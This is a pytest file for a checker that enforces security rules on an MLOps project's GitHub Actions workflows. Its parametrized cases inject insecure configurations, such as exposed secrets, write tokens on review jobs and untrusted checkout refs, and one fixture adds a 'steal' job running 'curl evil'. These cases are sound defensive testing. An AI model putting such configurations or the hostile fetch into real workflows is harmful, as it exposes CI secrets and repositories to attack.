"""What each job may do: the page says what the workflows say, and each way to break a rule is found."""

from __future__ import annotations

import re
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import grimp
import pytest
from conftest import ROOT
from ruamel.yaml import YAML

from mlops.review import trust

Edit = Callable[[Any], Any]


def jobs() -> list[trust.Job]:
    return trust.jobs(ROOT / trust.WORKFLOWS)


def test_the_page_has_the_jobs_of_the_workflows() -> None:
    text = (ROOT / trust.PAGE).read_text(encoding="utf-8")
    assert trust.page(text, jobs()) == text, "run: make trust"


def test_the_workflows_break_no_rule() -> None:
    assert trust.violations(jobs()) == []


def test_the_table_knows_what_the_jobs_are() -> None:
    found = {job.name: job for job in jobs()}
    assert {name for name, job in found.items() if job.unreviewed} == {
        "ci / test",
        "ci / review",
        "ci / gate",
        "ci / e2e",
    }
    assert {name for name, job in found.items() if job.writes} == {
        "release / publish",
        "release / announce",
        "pipeline-image / publish",
        "relock / push",
        "report / comment",
        "history / deploy",
        "monitor / issue",
        "monitor / retrain",
        "template-update / propose",
    }
    assert {name for name, job in found.items() if job.secrets} == {
        "register / challenger",
        "release / publish",
        "release / register",
        "monitor / compare",
        "monitor / store",
        "template-update / propose",
    }
    assert {name for name, job in found.items() if job.runner == trust.REVIEWS} == {"ci / review"}
    assert {name for name, job in found.items() if job.runner == trust.TRAINING} == {
        "ci / main",
        "history / build",
        "register / build",
        "release / verify",
    }
    assert {name for name, job in found.items() if job.cache == "write"} == {"ci / main"}
    assert {name for name, job in found.items() if job.cache == "read"} == {"ci / review"}


def test_no_job_with_a_token_imports_the_team_s_code() -> None:
    """By name; their own tests, with a hostile package in its place, show that none is imported in another way."""
    makefile = (ROOT / "Makefile").read_text(encoding="utf-8")
    graph = grimp.build_graph("mlops", "project", cache_dir=None)
    seen = set()
    for job in jobs():
        for target in job.targets if job.trusted else ():
            recipe = re.search(rf"^{target}:.*\n((?:\t.*\n)+)", makefile, re.MULTILINE)
            for module in re.findall(r"\$\((?:TRUSTED|RUN)\) (mlops[\w.]+)", recipe[1] if recipe else ""):
                upstream = graph.find_upstream_modules(module)
                assert upstream, module
                assert not {name for name in upstream if name.startswith("project")}, (job.name, module)
                seen.add(module)
    known = {
        "release.registry",
        "release.image",
        "release.pipeline_image",
        "review.publish",
        "review.relock",
        "monitoring.store",
        "core.template.propose",
    }
    assert {f"mlops.{name}" for name in known} <= seen


def step(workflow: Any, job: str, command: str) -> Any:
    return next(each for each in workflow["jobs"][job]["steps"] if each.get("run", "").endswith(command))


def use(workflow: Any, job: str, action: str) -> Any:
    return next(each for each in workflow["jobs"][job]["steps"] if f"actions/{action}@" in each.get("uses", ""))


@pytest.mark.parametrize(
    ("name", "edit", "problem"),
    [
        ("ci", lambda w: w["jobs"]["review"]["permissions"].update(contents="write"), "ci / review: runs code that no"),
        (
            "ci",
            lambda w: step(w, "review", "review").update(env={"KEY": "${{ secrets.KEY }}"}),
            "ci / review: holds a secret outside an environment",
        ),
        ("ci", lambda w: w["jobs"]["review"].update({"cache-mode": "write"}), "may write a cache that others restore"),
        ("ci", lambda w: w["jobs"]["main"].pop("cache-mode"), "ci / main: does not say its cache-mode"),
        ("ci", lambda w: w["jobs"]["main"]["permissions"].update(packages="write"), "ci / main: runs the pipeline"),
        (
            "relock",
            lambda w: use(w, "push", "checkout")["with"].update(ref="refs/heads/${{ inputs.branch }}"),
            "relock / push: runs code that no code owner has approved",
        ),
        (
            "relock",
            lambda w: step(w, "push", "setup-trusted").update(env={"T": "${{ github.token }}"}),
            "installs packages in the step that holds a token",
        ),
        (
            "relock",
            lambda w: w["jobs"]["push"]["steps"].pop(-2),
            "has no set-up step before the one that holds a token",
        ),
        ("relock", lambda w: step(w, "push", " relock").update(run="make relock"), "does not name its makefile"),
        (
            "report",
            lambda w: use(w, "comment", "checkout")["with"].update(ref="${{ github.event.workflow_run.head_sha }}"),
            "which is neither main nor the event's own commit",
        ),
        (
            "report",
            lambda w: use(w, "comment", "checkout")["with"].update({"persist-credentials": True}),
            "leaves the token in the checkout",
        ),
        (
            "release",
            lambda w: use(w, "publish", "checkout")["with"].update(ref="${{ needs.verify.outputs.commit }}"),
            "which is neither main nor the event's own commit",
        ),
        ("release", lambda w: w["jobs"]["publish"].pop("environment"), "publishes or signs outside an environment"),
        (
            "history",
            lambda w: w["jobs"]["build"]["permissions"].update(pages="write"),
            "history / build: publishes or signs outside an environment",
        ),
        (
            "release",
            lambda w: w["jobs"]["verify"].update({"cache-mode": "read"}),
            "release / verify: may restore a cache",
        ),
        (
            "release",
            lambda w: w["jobs"]["publish"]["steps"].insert(3, {"run": "make --file=Makefile"}),
            "release / publish: runs the pipeline or the model",
        ),
        ("register", lambda w: w["jobs"]["challenger"].pop("environment"), "holds a secret outside an environment"),
        (
            "monitor",
            lambda w: w["jobs"]["compare"]["steps"].insert(3, {"run": "make --file=Makefile monitor-deployed"}),
            "monitor / compare: gives a secret to the team's code, or to a step after it: fetch-log",
        ),
        (
            "monitor",
            lambda w: w["jobs"]["retrain"]["steps"].append({"run": "make --file=Makefile retrain-deployed"}),
            "monitor / retrain: runs the pipeline or the model, and holds a write token",
        ),
        (
            "register",
            lambda w: w["jobs"]["challenger"]["steps"].insert(3, {"run": "make --file=Makefile"}),
            "register / challenger: gives a secret to the team's code, or to a step after it: register",
        ),
        (
            "register",
            lambda w: w["jobs"]["build"]["steps"].append(
                {"uses": "actions/cache@27d5ce7f107fe9357f9df03efb73ab90386fccae", "with": {"path": "x", "key": "y"}}
            ),
            "saves a cache without saying so",
        ),
        (
            "ci",
            lambda w: w["jobs"]["review"].update({"runs-on": trust.TRAINING}),
            "ci / review: may run on ${{ vars.TRAINING_RUNNER || 'ubuntu-24.04' }}",
        ),
        (
            "release",
            lambda w: w["jobs"]["verify"].update({"runs-on": trust.REVIEWS}),
            "release / verify: may run on ${{ vars.REVIEW_RUNNER || 'ubuntu-24.04' }}",
        ),
        (
            "release",
            lambda w: w["jobs"]["publish"].update({"runs-on": trust.TRAINING}),
            "release / publish: may run on ${{ vars.TRAINING_RUNNER || 'ubuntu-24.04' }}",
        ),
    ],
    ids=lambda value: value.replace(" ", "-")[:40] if isinstance(value, str) else "",
)
def test_each_way_to_break_a_rule_is_found(tmp_path: Path, name: str, edit: Edit, problem: str) -> None:
    shutil.copytree(ROOT / trust.WORKFLOWS, tmp_path / "workflows")
    path = tmp_path / f"workflows/{name}.yaml"
    yaml = YAML()
    workflow = yaml.load(path)
    edit(workflow)
    yaml.dump(workflow, path)
    assert problem in "\n".join(trust.violations(trust.jobs(tmp_path / "workflows")))


def test_a_new_workflow_of_a_stranger_is_found(tmp_path: Path) -> None:
    text = "on: push\njobs:\n  steal:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: curl evil\n"
    (tmp_path / "new.yml").write_text(text, encoding="utf-8")
    found = trust.violations(trust.jobs(tmp_path))
    assert "new / steal: does not declare its permissions" in found
    assert "new / steal: does not name its makefile: curl evil" in found


def test_each_test_that_the_page_names_is_there() -> None:
    text = (ROOT / trust.PAGE).read_text(encoding="utf-8")
    named = re.findall(r"`(tests/[\w/]+\.py)(?:::(\w+))?`", text)
    assert len(named) > 10
    for path, test in named:
        content = (ROOT / path).read_text(encoding="utf-8")
        assert not test or f"def {test}(" in content, f"{path}::{test}"
